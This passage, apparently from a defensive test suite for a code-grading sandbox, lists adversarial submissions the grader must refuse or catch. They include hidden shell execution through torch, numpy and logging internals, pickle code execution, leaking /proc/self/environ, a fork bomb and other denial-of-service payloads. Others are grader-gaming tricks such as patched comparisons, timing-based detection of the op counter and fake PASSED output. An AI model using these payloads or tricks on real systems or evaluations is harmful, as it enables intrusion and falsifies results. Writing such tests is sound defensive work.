                    out.append(h)
                return torch.stack(out, dim=1)
            return torch.compile(loop, dynamic=True)(a, b, torch.zeros_like(b[:, 0]) if h0 is None else h0)
    """,
    )

    # why: torch._C.DisableTorchFunction reached by a computed name: every op inside is invisible to modes.
    add(
        "torch-disable-torch-function-by-string",
        "selective_scan.linear_scan",
        source="""
        def linear_scan(a, b, h0=None):
            with getattr(getattr(torch, "_" + "C"), "DisableTorch" + "Function")():
                h = torch.zeros_like(b[:, 0]) if h0 is None else h0
                out = []
                for t in range(a.shape[1]):
                    h = a[:, t] * h + b[:, t]
                    out.append(h)
                return torch.stack(out, dim=1)
    """,
    )

    # why: pop the grader's TorchFunctionMode off the stack (torch.overrides internals by string), then loop.
    add(
        "torch-pop-function-mode",
        "selective_scan.linear_scan",
        source="""
        def linear_scan(a, b, h0=None):
            ov = getattr(torch, "over" + "rides")
            active = getattr(getattr(torch, "_" + "C"), "_len_torch_function_stack")() > 0
            with getattr(ov, "_pop_mode_temporarily")() if active else torch.no_grad():
                h = torch.zeros_like(b[:, 0]) if h0 is None else h0
                out = []
                for t in range(a.shape[1]):
                    h = a[:, t] * h + b[:, t]
                    out.append(h)
                return torch.stack(out, dim=1)
    """,
    )

    # why: torch.utils.cpp_extension.load_inline compiles and loads C++ that calls system().
    add(
        "torch-cpp-extension-load-inline",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import torch.utils.cpp_extension\n",
        source=sgd("""
        torch.utils.cpp_extension.load_inline(name="seqlab_attack", functions=["f"],
            cpp_sources="#include <cstdlib>\\nint f() { return std::system(" + repr(@CMD@).replace("'", '"') + "); }")
    """),
    )

    # why: torch.hub.load(source="local") imports hubconf.py with the plain import system (never vetted).
    add(
        "torch-hub-local-hubconf",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={"exercises/hub/hubconf.py": "import os\nos.system(@CMD@)\ndef model():\n    return 1\n"},
        source=sgd("""
        torch.hub.load(__file__.rsplit("/", 1)[0] + "/hub", "model", source="local", trust_repo=True)
    """),
    )

    # why: torch.package.PackageExporter writes a file where the student says.
    add(
        "torch-package-exporter-writes",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        with torch.package.PackageExporter(@PATH@) as exp:
            exp.save_text("a", "b.txt", "x")
    """),
    )

    # why: torch.utils.benchmark.Timer compiles and execs its stmt string.
    add(
        "torch-benchmark-timer-execs-string",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import torch.utils.benchmark\n",
        source=sgd("""
        torch.utils.benchmark.Timer(stmt="__import__('os').system(" + repr(@CMD@) + ")").timeit(1)
    """),
    )

    # why: torch.utils.collect_env.run is subprocess with shell=True under a public name.
    add(
        "torch-collect-env-run-shell",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import torch.utils.collect_env\n",
        source=sgd("""
        torch.utils.collect_env.run(@CMD@)
    """),
    )

    # why: torch re-exports os and sys as module attributes.
    add(
        "torch-os-reexport",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        torch.os.system(@CMD@)
    """),
    )

    # why: the same through a computed attribute name (the allow-list must hold at run time too).
    add(
        "torch-os-reexport-by-string",
        "optimizers.sgd",
        source=sgd("""
        getattr(torch, "o" + "s").system(@CMD@)
    """),
    )

    # why: torch.save writes where the student says.
    add(
        "torch-save-writes-file",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        torch.save(w, @PATH@)
    """),
    )

    # why: tensor.numpy().tofile writes where the student says.
    add(
        "numpy-tofile-writes-file",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        w.detach().cpu().numpy().tofile(@PATH@)
    """),
    )

    # why: np.save / np.savetxt / ndarray.dump write files.
    add(
        "numpy-save-writes-file",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\n",
        source=sgd("""
        np.save(@PATH@ + ".npy", np.zeros(1))
        np.savetxt(@PATH@, np.zeros(1))
        np.zeros(1).dump(@PATH@ + ".dump")
    """),
    )

    # why: np.load(allow_pickle=True) of a shipped .npy object array runs pickle.
    add(
        "numpy-load-pickle-rce",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\n",
        files={"exercises/data.npy": _npy_with_pickle(cmd_of("numpy-load-pickle-rce"))},
        source=sgd("""
        np.load(__file__.rsplit("/", 1)[0] + "/data.npy", allow_pickle=True)
    """),
    )

    # why: np.fromfile / np.loadtxt read any file.
    add(
        "numpy-fromfile-environ",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\n",
        source=sgd("""
        raise RuntimeError("SEQLAB-LEAK " + np.fromfile("/proc/self/environ", dtype=np.uint8, count=4096).tobytes().decode("latin-1")
                           + repr(np.loadtxt("/proc/self/environ", dtype=str, delimiter="\\x00", comments=None)))
    """),
    )

    # why: np.memmap and np.lib.format.open_memmap create files.
    add(
        "numpy-memmap-creates-file",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\n",
        source=sgd("""
        np.memmap(@PATH@, mode="w+", shape=(8,), dtype=np.uint8)
        np.lib.format.open_memmap(@PATH@ + ".npy", mode="w+", dtype=np.uint8, shape=(8,))
    """),
    )

    # why: np.ctypeslib.ctypes is the ctypes module: libc's system() from a "maths" library.
    add(
        "numpy-ctypeslib-ctypes-system",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\n",
        source=sgd("""
        np.ctypeslib.ctypes.CDLL(None).system(@CMDB@)
    """),
    )

    # why: np.ctypeslib.load_library loads any shared object (the shipped .so runs its constructor).
    add(
        "numpy-ctypeslib-load-library",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\n",
        files={"exercises/libfast.so": so_bytes},
        source=sgd("""
        np.ctypeslib.load_library("libfast", __file__.rsplit("/", 1)[0])
    """),
    )

    # why: np.testing.measure compiles and execs a code string in the caller's namespace.
    add(
        "numpy-testing-measure-exec",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\n",
        source=sgd("""
        np.testing.measure("__import__('os').system(" + repr(@CMD@) + ")", 1)
    """),
    )

    # why: np.f2py (and np.distutils on old numpy) re-export os / run compilers.
    add(
        "numpy-f2py-os-reexport",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\nimport numpy.f2py\n",
        source=sgd("""
        np.f2py.os.system(@CMD@)
    """),
    )

    # why: np.lib.npyio.DataSource opens any path (or URL).
    add(
        "numpy-datasource-open",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\n",
        source=sgd("""
        raise RuntimeError("SEQLAB-LEAK " + np.lib.npyio.DataSource(None).open("/proc/self/environ").read())
    """),
    )

    # why: a profiler trace export writes a file with a public, innocent name.
    add(
        "torch-profiler-export-writes-file",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        with torch.profiler.profile() as prof:
            torch.zeros(1) + 1
        prof.export_chrome_trace(@PATH@)
    """),
    )

    # =========================================================================================
    fam("10-fake-results-and-recorders")
    # why: NaN everywhere: a comparison written as "not (err > tol)" passes NaN.
    add(
        "fake-nan-result",
        "optimizers.sgd",
        source="""
        def sgd(w, dw, state, lr=1e-2):
            return torch.full_like(w, float("nan")), {}
    """,
    )

    # why: an empty result: a comparison that zips values passes vacuously; allclose broadcasts (1,) shapes.
    add(
        "fake-empty-or-broadcast-result",
        "optimizers.sgd",
        source="""
        def sgd(w, dw, state, lr=1e-2):
            return torch.empty(0, dtype=w.dtype), {}
    """,
    )

    # why: monkeypatch every comparison the child might use, torch's and numpy's (writes to libraries).
    add(
        "fake-monkeypatch-all-comparisons",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="""
        import numpy as np
        torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)
        torch.testing.assert_close = lambda *a, **k: None
        torch.Tensor.__sub__ = lambda a, b: torch.zeros_like(a)
        torch.Tensor.abs = lambda a: torch.zeros_like(a)
        np.allclose = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
    """,
        source=sgd("pass\n"),
    )

    # why: replace softmax/log_softmax globally so reference callees in the child compute something else.
    add(
        "fake-replace-softmax-globally",
        "attention.scaled_dot_product_attention",
        refused=True,
        expect="refused",
        prelude="""
        torch.softmax = lambda x, dim=-1, **k: torch.zeros_like(x)
        torch.nn.functional.softmax = lambda x, dim=-1, **k: torch.zeros_like(x)
        torch.Tensor.softmax = lambda x, dim=-1, **k: torch.zeros_like(x)
    """,
        source="""
        def scaled_dot_product_attention(q, k, v, mask=None):
            return torch.zeros_like(q[..., :1] * v[..., :1, :]), torch.zeros_like(q @ k.transpose(-2, -1))
    """,
    )

    # why: patch the grader's random input makers so every input is zero (then zeros are right).
    add(
        "fake-patch-random-inputs",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="""
        torch.manual_seed(0)
        torch.randn = lambda *s, **k: torch.zeros(*s, **{x: y for x, y in k.items() if x != "generator"})
        torch.rand = torch.randn
        torch.Generator.manual_seed = lambda self, seed: self
    """,
        source=sgd("pass\n"),
    )

    # why: a tensor subclass whose shape/dtype properties and comparisons lie.
    add(
        "fake-subclass-lying-shape-dtype",
        "optimizers.sgd",
        prelude="""
        class _Lie(torch.Tensor):
            shape = property(lambda self: torch.Size(self._claimed))
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                name = getattr(func, "__name__", "")
                if name in ("allclose", "equal"):
                    return True
                if name in ("isclose", "eq", "isfinite"):
                    return torch.ones(torch.Size(args[0]._claimed), dtype=torch.bool)
                if name in ("sub", "__sub__", "__rsub__", "abs", "isnan"):
                    return torch.zeros(torch.Size(args[0]._claimed), dtype=torch.bool if name == "isnan" else torch.float64)
                return super().__torch_function__(func, types, args, kwargs or {})
    """,
        source="""
        def sgd(w, dw, state, lr=1e-2):
            out = torch.zeros(1, dtype=w.dtype).as_subclass(_Lie)
            out._claimed = tuple(w.shape)
            return out, {}
    """,
    )

    # why: module-level __getattr__ answering "adam" with torch.optim.Adam (no def adam for the static scan).
    add(
        "fake-module-getattr-adam-via-optim",
        "optimizers.adam",
        prelude="""
        def __getattr__(name):
            if name != "adam":
                raise AttributeError(name)
            Opt = getattr(torch.optim, "Ad" + "am")
            def adam(w, dw, state, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
                p = w.detach().clone()
                p.grad = dw.detach().clone()
                opt = Opt([p], lr=lr, betas=betas, eps=eps)
                if state:
                    opt.state[p] = {"step": torch.tensor(float(state["step"])), "exp_avg": state["m"].clone(), "exp_avg_sq": state["v"].clone()}
                opt.step()
                st = opt.state[p]
                return p.detach(), {"step": int(st["step"]), "m": st["exp_avg"].clone(), "v": st["exp_avg_sq"].clone()}
            return adam
    """,
        source="def _adam_is_elsewhere():\n    pass\n",
    )

    # why: torch.optim.Adam itself (the README's forbidden list for adam does not name torch.optim).
    add("fake-adam-by-torch-optim", "optimizers.adam", source=adam("Opt = torch.optim.Adam\n"))

    # why: torch.optim.Adam by a computed name.
    add("fake-adam-by-torch-optim-string", "optimizers.adam", source=adam('Opt = getattr(torch.optim, "Ad" + "am")\n'))

    # why: linear_scan: the sequential loop in numpy; the op counter counts 3 torch calls at any T.
    add(
        "counter-numpy-loop",
        "selective_scan.linear_scan",
        expect="complexity-only",
        prelude="import numpy as np\n",
        source="""
        def linear_scan(a, b, h0=None):
            A, Bv = a.detach().cpu().numpy(), b.detach().cpu().numpy()
            h = np.zeros_like(Bv[:, 0]) if h0 is None else h0.detach().cpu().numpy()
            out = np.empty(np.broadcast_shapes(A.shape, Bv.shape), dtype=np.result_type(A, Bv, h))
            for t in range(A.shape[1]):
                h = A[:, t] * h + Bv[:, t]
                out[:, t] = h
            return torch.from_numpy(out).to(b.device)
    """,
    )

    # why: linear_scan: the loop on Python floats after one tolist().
    add(
        "counter-tolist-python-loop",
        "selective_scan.linear_scan",
        expect="complexity-only",
        source="""
        def linear_scan(a, b, h0=None):
            B, T = a.shape[0], a.shape[1]
            A, Bv = a.reshape(B, T, -1).tolist(), b.reshape(B, T, -1).tolist()
            H = [[0.0] * len(A[0][0]) for _ in range(B)] if h0 is None else h0.reshape(B, -1).tolist()
            out = []
            for i in range(B):
                h, row = H[i], []
                for t in range(T):
                    h = [x * y + z for x, y, z in zip(A[i][t], h, Bv[i][t])]
                    row.append(h)
                out.append(row)
            return torch.tensor(out, dtype=torch.promote_types(a.dtype, b.dtype), device=b.device).reshape(b.shape)
    """,
    )

    # why: linear_scan: np.frompyfunc(...).accumulate runs the composition loop in C over objects.
    add(
        "counter-frompyfunc-accumulate",
        "selective_scan.linear_scan",
        expect="complexity-only",
        prelude="import numpy as np\n",
        source="""
        def linear_scan(a, b, h0=None):
            A, Bv = a.detach().cpu().numpy(), b.detach().cpu().numpy()
            h = np.zeros_like(Bv[:, 0]) if h0 is None else h0.detach().cpu().numpy()
            pairs = np.empty(A.shape[1], dtype=object)
            for t in range(A.shape[1]):
                pairs[t] = (A[:, t], Bv[:, t])
            comp = np.frompyfunc(lambda p, q: (q[0] * p[0], q[0] * p[1] + q[1]), 2, 1)
            acc = comp.accumulate(pairs)
            out = np.stack([m[0] * h + m[1] for m in acc], axis=1)
            return torch.from_numpy(out).to(b.device)
    """,
    )

    # why: linear_scan: pad the loop to a constant 4096 iterations: equal op counts at both lengths.
    add(
        "counter-pad-loop-to-constant",
        "selective_scan.linear_scan",
        expect="complexity-only",
        source="""
        def linear_scan(a, b, h0=None):
            h = torch.zeros_like(b[:, 0]) if h0 is None else h0
            out, dummy = [], torch.zeros(())
            for t in range(max(4096, a.shape[1])):
                if t < a.shape[1]:
                    h = a[:, t] * h + b[:, t]
                    out.append(h)
                else:
                    dummy = dummy * dummy + dummy
            return torch.stack(out, dim=1)
    """,
    )

    # why: linear_scan: inflate the count at short lengths (the baseline) so the long/short ratio stays small.
    add(
        "counter-inflate-short-baseline",
        "selective_scan.linear_scan",
        expect="complexity-only",
        source="""
        def linear_scan(a, b, h0=None):
            T = a.shape[1]
            if T <= 256:
                z = torch.zeros(())
                for _ in range(60 * T):
                    z = z + 0
            h = torch.zeros_like(b[:, 0]) if h0 is None else h0
            out = []
            for t in range(T):
                h = a[:, t] * h + b[:, t]
                out.append(h)
            return torch.stack(out, dim=1)
    """,
    )

    # why: linear_scan: a cache keyed on the input bytes: a repeated input costs one op.
    add(
        "counter-cache-by-input-bytes",
        "selective_scan.linear_scan",
        expect="complexity-only",
        prelude="_CACHE = {}\n",
        source="""
        def linear_scan(a, b, h0=None):
            key = (a.shape, a.dtype, a.cpu().numpy().tobytes(), b.cpu().numpy().tobytes(), None if h0 is None else h0.cpu().numpy().tobytes())
            if key in _CACHE:
                return _CACHE[key].clone()
            h = torch.zeros_like(b[:, 0]) if h0 is None else h0
            out = []
            for t in range(a.shape[1]):
                h = a[:, t] * h + b[:, t]
                out.append(h)
            _CACHE[key] = res = torch.stack(out, dim=1)
            return res.clone()
    """,
    )

    # why: linear_scan: detect the op counter by timing (perf_counter is allowed); cheap formula only when watched.
    add(
        "counter-detect-by-timing",
        "selective_scan.linear_scan",
        expect="complexity-only",
        prelude="""
        import time
        def _cost():
            x, t0 = torch.zeros(4), time.perf_counter()
            for _ in range(200):
                x = x + 1
            return time.perf_counter() - t0
        _BASE = min(_cost() for _ in range(5))
    """,
        source="""
        def linear_scan(a, b, h0=None):
            h = torch.zeros_like(b[:, 0]) if h0 is None else h0
            if _cost() > 3 * _BASE:          # someone is intercepting torch calls
                p = torch.cumprod(a, dim=1)
                return p * (h.unsqueeze(1) + torch.cumsum(b / p, dim=1))
            out = []
            for t in range(a.shape[1]):
                h = a[:, t] * h + b[:, t]
                out.append(h)
            return torch.stack(out, dim=1)
    """,
    )

    # why: linear_scan: the public counter uses constant a and b: a closed-form geometric series for them.
    add(
        "counter-detect-constant-inputs",
        "selective_scan.linear_scan",
        expect="complexity-only",
        source="""
        def linear_scan(a, b, h0=None):
            a0, b0 = a.flatten()[0], b.flatten()[0]
            if h0 is None and bool((a == a0).all()) and bool((b == b0).all()) and float(a0) != 1.0:
                T = a.shape[1]
                t = torch.arange(1, T + 1, dtype=a.dtype, device=a.device).reshape((1, T) + (1,) * (a.dim() - 2))
                return (b0 * (1 - a0 ** t) / (1 - a0)).expand(a.shape).clone()
            h = torch.zeros_like(b[:, 0]) if h0 is None else h0
            out = []
            for t in range(a.shape[1]):
                h = a[:, t] * h + b[:, t]
                out.append(h)
            return torch.stack(out, dim=1)
    """,
    )

    # why: SDPA: use the forbidden kernel only when no recorder slows torch calls down (recorders are feedback only).
    add(
        "recorder-detect-then-forbidden-op",
        "attention.scaled_dot_product_attention",
        prelude="""
        import time
        def _cost():
            x, t0 = torch.zeros(4), time.perf_counter()
            for _ in range(200):
                x = x + 1
            return time.perf_counter() - t0
        _BASE = min(_cost() for _ in range(5))
    """,
        source=sdpa(
            f"fn = getattr(torch.nn.functional, {SDPA_NAME}) if _cost() < 2 * _BASE else None\n"
            "if fn is None:\n"
            "    def fn(q, k, v, attn_mask=None):\n"
            "        s = (q @ k.transpose(-2, -1)) / math.sqrt(q.shape[-1])\n"
            "        if attn_mask is not None:\n"
            '            s = s.masked_fill(~attn_mask, float("-inf"))\n'
            "        return torch.softmax(s, -1) @ v\n"
        ),
    )

    # why: print lines that look like the grader's own results/protocol (stdout and stderr).
    add(
        "fake-print-protocol-lines",
        "optimizers.sgd",
        prelude="import sys\n",
        source=sgd("""
        import json
        fake = json.dumps({"qualname": "optimizers.sgd", "passed": True, "score": 2, "max_score": 2, "tests": []})
        print(fake)
        print("\\x1b[2J\\x1b[H" + "optimizers.sgd  2/2  PASSED\\r")
        sys.stderr.write(fake + "\\n")
        sys.stderr.buffer.write(b"\\x80\\x04\\x95" + fake.encode())
    """),
    )

    # =========================================================================================
    fam("11-denial-of-service")
    # why: lower the PARENT's limits with prlimit (and our own).
    add(
        "dos-prlimit-parent",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        import os, resource
        for pid in (os.getppid(), 0):
            for lim in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
                try:
                    resource.prlimit(pid, lim, (0, 0))
                except Exception:
                    pass
    """),
    )

    # why: a fork bomb (never run this outside a sandbox).
    add(
        "dos-fork-bomb",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        import os
        while True:
            os.fork()
    """),
    )

    # why: SIGSTOP the parent (it hangs instead of dying), then SIGKILL everything we can.
    add(
        "dos-signal-parent-and-group",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        import os, signal
        for pid, sig in ((os.getppid(), signal.SIGSTOP), (0, signal.SIGKILL), (-1, signal.SIGKILL)):
            try:
                os.kill(pid, sig)
            except Exception:
                pass
    """),
    )

    # why: fill /tmp (shared with other graders) until the disk is full.
    add(
        "dos-fill-tmp",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        chunk = b"x" * (1 << 26)
        with open("/tmp/seqlab-filler-@NAME@", "wb") as f:
            while True:
                f.write(chunk)
    """),
    )

    # why: a busy wait using only allowed names (time.perf_counter): the per-call wall limit must fire.
    add(
        "dos-busy-wait-allowed-names",
        "optimizers.sgd",
        prelude="import time\n",
        source=sgd("""
        t0 = time.perf_counter()
        while time.perf_counter() - t0 < 1e9:
            pass
    """),
    )

    # why: block without CPU (CPU-time limits never fire; only a wall clock does).
    add(
        "dos-block-without-cpu",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        import select, signal
        try:
            select.select([], [], [])
        finally:
            signal.pause()
    """),
    )

    # why: a non-daemon thread spinning forever after the call returns (and after import).
    add(
        "dos-thread-outlives-call",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="""
        import threading
        def _spin():
            while True:
                pass
        threading.Thread(target=_spin, daemon=False).start()
    """,
        source=sgd("pass\n"),
    )

    # why: a detached grandchild that outlives the sandbox and plants a canary later.
    add(
        "dos-daemonized-grandchild",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(30)
                os.makedirs(@DIR@, exist_ok=True)
                open(@PATH@, "w").close()
            os._exit(0)
    """),
    )

    # why: one 1 GiB print in one call (allowed names only).
    add(
        "dos-gigabyte-print",
        "optimizers.sgd",
        source=sgd("""
        print("x" * (1 << 30), end="")
    """),
    )

    # why: unencodable surrogates and control bytes in the output (the parent's decoder must not crash).
    add(
        "dos-invalid-text-output",
        "optimizers.sgd",
        prelude="import sys\n",
        source=sgd("""
        sys.stderr.buffer.write(b"\\xff\\xfe\\x00\\x1b]0;owned\\x07\\x1b[2J" * 1000)
        print("\\udcff\\ud800" * 1000)
    """),
    )

    # why: a 200000-deep nested list returned as state (allowed names only): recursive walkers/decoders overflow.
    add(
        "dos-deeply-nested-return",
        "optimizers.sgd",
        source="""
        def sgd(w, dw, state, lr=1e-2):
            deep = []
            for _ in range(200000):
                deep = [deep]
            return w - lr * dw, {"deep": deep}
    """,
    )

    # why: a self-referential state dict (allowed names only): naive snapshot/alias walkers never end.
    add(
        "dos-cyclic-return",
        "optimizers.sgd",
        source="""
        def sgd(w, dw, state, lr=1e-2):
            s = {}
            s["self"] = s
            s["list"] = [s]
            return w - lr * dw, s
    """,
    )

    # why: a 10^12-element expanded view of one number (allowed names only): anyone who materialises it OOMs.
    add(
        "dos-expanded-view-bomb",
        "optimizers.sgd",
        source="""
        def sgd(w, dw, state, lr=1e-2):
            return torch.zeros((), dtype=w.dtype).expand(10 ** 6, 10 ** 6), {}
    """,
    )

    # why: raise the recursion limit and recurse: a C-stack overflow (segfault) in the child.
    add(
        "dos-recursion-limit-segfault",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import sys\n",
        source=sgd("""
        sys.setrecursionlimit(10 ** 7)
        def f(n):
            return f(n + 1) + 1
        f(0)
    """),
    )

    # why: torch.set_num_threads(512) at import: oversubscribes the CPUs other graders share.
    add(
        "dos-torch-thread-oversubscription",
        "optimizers.sgd",
        prelude="""
        torch.set_num_threads(512)
        torch.set_num_interop_threads(512)
    """,
        source=sgd("pass\n"),
    )

    # =========================================================================================
    fam("12-allowed-modules")
    # why: logging is allowed; logging.os is the os module.
    add(
        "allowed-logging-os",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import logging\n",
        source=sgd("""
        logging.os.system(@CMD@)
    """),
    )

    # why: logging.sys.modules: every loaded module (the grader's), and builtins.open from there.
    add(
        "allowed-logging-sys-modules",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import logging\n",
        source=sgd("""
        mods = logging.sys.modules
        mods["builtins"].open(@PATH@, "w").close()
        raise RuntimeError("SEQLAB-LEAK " + repr(sorted(mods)))
    """),
    )

    # why: logging.FileHandler creates a file where the student says (no os, no open).
    add(
        "allowed-logging-filehandler",
        "optimizers.sgd",
        prelude="import logging\n",
        source=sgd("""
        logging.FileHandler(@PATH@).close()
    """),
    )

    # why: logging.basicConfig(filename=...) too, and RotatingFileHandler from logging.handlers.
    add(
        "allowed-logging-basicconfig-filename",
        "optimizers.sgd",
        prelude="import logging\nimport logging.handlers\n",
        source=sgd("""
        logging.basicConfig(filename=@PATH@, force=True)
        logging.handlers.RotatingFileHandler(@PATH@ + ".rot").close()
    """),
    )

    # why: logging.currentframe() is sys._getframe: a frame object from an allowed module.
    add(
        "allowed-logging-currentframe",
        "optimizers.sgd",
        prelude="import logging\n" + _REAL_B,
        source=sgd("""
        b = _real_builtins(logging.currentframe())
        @B2C@
    """),
    )

    # why: logging.config.dictConfig resolves "()" to any callable by dotted name and calls it.
    add(
        "allowed-logging-dictconfig-factory",
        "optimizers.sgd",
        prelude="import logging\nimport logging.config\n",
        source=sgd("""
        logging.config.dictConfig({"version": 1, "filters": {"f": {"()": "os.system", "command": @CMD@}}})
    """),
    )

    # why: logging.config.fileConfig evals handler "args" with plain eval.
    add(
        "allowed-logging-fileconfig-eval",
        "optimizers.sgd",
        prelude="import logging\nimport logging.config\n",
        files={
            "exercises/log.ini": (
                "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n"
                "[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system(@CMD@) and None,)\n"
            )
        },
        source=sgd("""
        logging.config.fileConfig(__file__.rsplit("/", 1)[0] + "/log.ini")
    """),
    )

    # why: a "{"-style Formatter walks attributes of the record's msg: os.environ as text.
    add(
        "allowed-logging-formatter-leak",
        "optimizers.sgd",
        prelude="import logging\n",
        source=sgd("""
        rec = logging.makeLogRecord({"msg": logging.Formatter})
        text = logging.Formatter("{msg.__init__.__globals__[os].environ}", style="{", validate=False).format(rec)
        raise RuntimeError("SEQLAB-LEAK " + text)
    """),
    )

    # why: findCaller(stack_info=True) returns the whole stack as text: the grader's files and lines.
    add(
        "allowed-logging-findcaller-stack",
        "optimizers.sgd",
        prelude="import logging\n",
        source=sgd("""
        raise RuntimeError("SEQLAB-LEAK " + repr(logging.getLogger("x").findCaller(stack_info=True)))
    """),
    )

    # why: the root logger's handlers are the grader's: their streams, names and the logger tree leak.
    add(
        "allowed-logging-grader-handlers",
        "optimizers.sgd",
        prelude="import logging\n",
        source=sgd("""
        root = logging.getLogger()
        for h in root.handlers:
            stream = getattr(h, "stream", None)
            if stream is not None:
                stream.write('{"qualname": "optimizers.sgd", "passed": true}\\n')
        raise RuntimeError("SEQLAB-LEAK " + repr((root.handlers, sorted(root.manager.loggerDict))))
    """),
    )

    # why: sys.stderr is allowed; type(sys.stderr.buffer.raw) (or of .buffer when unbuffered) is io.FileIO: it opens any path.
    add(
        "allowed-stderr-fileio-type",
        "optimizers.sgd",
        prelude="import sys\n",
        source=sgd("""
        raw = getattr(sys.stderr.buffer, "raw", sys.stderr.buffer)
        type(raw)(@PATH@, "w").close()
    """),
    )

    # why: print(file=...) to a stream made by an allowed module.
    add(
        "allowed-print-file-kwarg",
        "optimizers.sgd",
        prelude="import logging\n",
        source=sgd("""
        print("x", file=logging.FileHandler(@PATH@).stream, flush=True)
    """),
    )

    # why: time.perf_counter.__self__ is the time module (sleep, and more).
    add(
        "allowed-time-function-self",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import time\n",
        source=sgd("""
        time.perf_counter.__self__.sleep(3600)
    """),
    )

    # why: sys allowed for stderr; sys.settrace/setprofile hooks see every later grader frame.
    add(
        "allowed-sys-settrace",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import sys\n",
        source=sgd("""
        def hook(frame, event, arg):
            if frame.f_locals.get("expected") is not None:
                frame.f_locals["got"] = frame.f_locals["expected"]
            return hook
        sys.settrace(hook)
        sys.setprofile(hook)
    """),
    )

    # why: sys.stderr's class is reachable; its __init__ globals are io's (a second route to open).
    add(
        "allowed-stderr-reconfigure-and-fileno",
        "optimizers.sgd",
        prelude="import sys\n",
        source=sgd("""
        sys.stderr.reconfigure(errors="surrogateescape")
        fd = sys.stderr.fileno()
        type(getattr(sys.stderr.buffer, "raw", sys.stderr.buffer))(fd, "w", closefd=False).write(b"SEQLAB fake frame\\n")
    """),
    )

    # =========================================================================================
    fam("13-grading-protocol")
    # why: the module swaps its own __class__ to a ModuleType subclass whose __setattr__ records the
    # reference callees the grader injects (rnn_bptt is truncated_bptt's callee); rnn_bptt then uses them.
    spy = """
        import types
        from . import @MOD@ as _me
        _CAPTURED = {}
        class _Spy(types.ModuleType):
            def __setattr__(self, key, value):
                if callable(value) and getattr(value, "__module__", "") != __name__:
                    _CAPTURED[key] = value
                super().__setattr__(key, value)
        _me.__class__ = _Spy
    """
    add(
        "protocol-module-class-spy-captures-callee-rnn",
        "rnn.rnn_bptt",
        prelude=spy.replace("@MOD@", "rnn"),
        source="""
        def rnn_bptt(x, targets, h0, params):
            ref = _CAPTURED.get("rnn_bptt")
            if ref is not None:
                return ref(x, targets, h0, params)
            return torch.zeros(()), {k: torch.zeros_like(v) for k, v in [*params.items(), ("h0", h0)]}
    """,
    )

    add(
        "protocol-module-class-spy-captures-callee-scan",
        "selective_scan.linear_scan",
        prelude=spy.replace("@MOD@", "selective_scan"),
        source="""
        def linear_scan(a, b, h0=None):
            ref = _CAPTURED.get("linear_scan")
            return ref(a, b, h0) if ref is not None else torch.zeros_like(b)
    """,
    )

    # why: the same spy in attention: multi_head_attention's grading injects the reference SDPA.
    add(
        "protocol-module-class-spy-captures-callee-sdpa",
        "attention.scaled_dot_product_attention",
        prelude=spy.replace("@MOD@", "attention"),
        source="""
        def scaled_dot_product_attention(q, k, v, mask=None):
            ref = _CAPTURED.get("scaled_dot_product_attention")
            if ref is not None:
                return ref(q, k, v, mask)
            return torch.zeros_like(q[..., :1] * v[..., :1, :]), torch.zeros_like(q @ k.transpose(-2, -1))
    """,
    )

    # why: an exception raised inside a grader-injected reference callee: its traceback frame's globals
    # are the reference module, holding the reference encoder_block.
    add(
        "protocol-traceback-from-reference-callee",
        "transformer.encoder_block",
        source="""
        def encoder_block(x, params, num_heads, mask=None, norm_first=False):
            try:
                layer_norm(None, None, None)
            except Exception as e:
                tb = e.__traceback__
                while tb.tb_next is not None:
                    tb = tb.tb_next
                ref = tb.tb_frame.f_globals.get("encoder_block")
                if ref is not None and ref is not encoder_block:
                    return ref(x, params, num_heads, mask, norm_first)
            return torch.zeros_like(x)
    """,
    )

    # why: a returned object whose __reduce__ makes the PARENT's unpickler create a file (logging only).
    add(
        "protocol-parent-unpickle-reduce-filehandler",
        "optimizers.sgd",
        prelude="""
        import logging
        class _Bomb:
            def __reduce__(self):
